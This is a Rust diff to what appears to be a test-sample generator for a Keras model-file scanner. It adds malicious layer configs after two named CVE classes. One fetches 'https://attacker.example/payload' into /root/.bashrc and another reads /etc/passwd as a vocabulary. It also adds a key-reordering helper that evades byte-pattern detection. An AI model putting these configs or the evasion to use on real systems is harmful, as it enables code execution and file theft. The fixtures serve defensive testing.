@@ -24,6 +24,12 @@ pub enum Variant {
     Tfsm,
     /// A tf.keras 2 registered custom layer (`Custom>ScaledDense`).
     Registered,
+    /// `keras.utils.get_file` deserialized as a layer (the CVE-2025-8747 class): downloads at load time.
+    GetFile,
+    /// A `StringLookup` whose vocabulary is a path to a host file (the CVE-2025-12058 class).
+    VocabularyFile,
+    /// The honest twin: a `StringLookup` with its vocabulary inline.
+    VocabularyInline,
 }
 
 /// A stand-in for `marshal.dumps(code)` of `lambda x: __import__('os').system(cmd) or x`.
@@ -152,7 +158,41 @@ fn special_layer(variant: Variant) -> Option<Value> {
             "class_name": "Custom>ScaledDense",
             "config": {"name": "scaled_dense", "units": 16, "scale": 0.5}
         }),
+        Variant::GetFile => json!({
+            "module": "keras.utils", "class_name": "get_file", "registered_name": null,
+            "config": {"fname": "/root/.bashrc", "origin": "https://attacker.example/payload", "cache_dir": "/"}
+        }),
+        Variant::VocabularyFile => json!({
+            "module": "keras.layers", "class_name": "StringLookup", "registered_name": null,
+            "config": {"name": "string_lookup", "vocabulary": "/etc/passwd", "num_oov_indices": 1}
+        }),
+        Variant::VocabularyInline => json!({
+            "module": "keras.layers", "class_name": "StringLookup", "registered_name": null,
+            "config": {"name": "string_lookup", "vocabulary": ["cat", "dog"], "num_oov_indices": 1}
+        }),
     })
+}
+
+/// The same config with every object's keys reordered so that `config` comes before `class_name` (Keras
+/// reads keys by name; byte searches that expect `{"class_name"` first do not).
+pub fn config_first(config: &str) -> String {
+    fn reorder(v: Value) -> Value {
+        match v {
+            Value::Object(map) => {
+                let mut out = serde_json::Map::new();
+                let mut rest: Vec<(String, Value)> = map.into_iter().collect();
+                rest.sort_by_key(|(k, _)| k != "config");
+                for (k, v) in rest {
+                    out.insert(k, reorder(v));
+                }
+                Value::Object(out)
+            }
+            Value::Array(items) => Value::Array(items.into_iter().map(reorder).collect()),
+            other => other,
+        }
+    }
+    let value: Value = serde_json::from_str(config).expect("generated configs are JSON");
+    reorder(value).to_string()
 }
 
 /// A Sequential model config (JSON text) with an input, Dense, Dropout and Dense layers, plus the odd layer
